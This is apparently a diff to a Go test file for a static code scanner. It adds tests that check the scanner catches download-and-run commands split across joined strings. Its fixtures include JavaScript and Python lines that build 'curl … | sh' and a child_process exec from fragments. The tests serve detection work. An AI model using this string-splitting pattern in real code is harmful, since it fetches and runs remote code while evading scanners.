@@ -311,11 +311,50 @@ func TestVirtualLiteralsStayWhole(t *testing.T) {
 			s := strings.Index(string(src), "'")
 			e := strings.Index(string(src), "\n")
 			f := &file{path: "a", data: src, lang: c.l}
-			v := virtual(f, []repl{{s, e, []byte(c.text)}})
+			v := virtual(f, []repl{{s: s, e: e, text: []byte(c.text)}})
 			code := strings.Index(string(v.data), "CODE")
 			for _, sp := range tokenize(c.l, v.data, nil) {
 				if int(sp.s) <= code && code < int(sp.e) {
 					t.Fatalf("virtual source %q: CODE inside a %v span [%d, %d)", v.data, sp.k, sp.s, sp.e)
+				}
+			}
+		})
+	}
+}
+
+// TestJoinedStrings: names and commands cut between two word characters
+// and joined with + (or, in Python, written side by side) are read whole,
+// at the grade the same code written whole has; concatenations at spaces
+// and punctuation, and a harmless cut word, give nothing.
+func TestJoinedStrings(t *testing.T) {
+	const quiet = record.Severity(-1)
+	cases := []struct {
+		name  string
+		files map[string]string
+		rule  string
+		want  record.Severity
+		line  int
+	}{
+		{"js require and command cut", map[string]string{"lib/x.js": "const cp = require('chi' + 'ld_pro' + 'cess');\ncp['ex' + 'ec']('cu' + 'rl http://example.invalid/s | s' + 'h');\n"}, "download-exec", record.Medium, 2},
+		{"python implicit concatenation", map[string]string{"acme/x.py": "import os\nos.system('cu' 'rl http://example.invalid/s ' '| sh')\n"}, "download-exec", record.Medium, 2},
+		// twins
+		{"js greeting and URL joined at punctuation", map[string]string{"lib/x.js": "const msg = 'Hello, ' + name + '!';\nconst u = 'https://' + host + '/api/' + 'v1';\nfetch(u);\n"}, "download-exec", quiet, 0},
+		{"js harmless cut word", map[string]string{"lib/x.js": "const label = 'foo' + 'bar';\nconsole.log(label);\n"}, "download-exec", quiet, 0},
+		{"python long message side by side", map[string]string{"acme/x.py": "MSG = ('Could not read the configuration file; '\n       'check its permissions.')\n"}, "download-exec", quiet, 0},
+	}
+	rs := DefaultRules()
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			got := Scan(treeOf(c.files), rs)
+			checkGrade(t, got, c.rule, c.want, 0)
+			for _, f := range got {
+				if f.Severity > record.Low && c.want == quiet {
+					t.Errorf("twin: %s %s%s", f.Rule, f.Severity, describe(got))
+				}
+				if f.Rule == c.rule && c.want >= record.Low {
+					if f.Evidence["joined"] != true || f.Evidence["line"] != c.line {
+						t.Errorf("want %s from joined strings at line %d, got evidence %v", c.rule, c.line, f.Evidence)
+					}
 				}
 			}
 		})
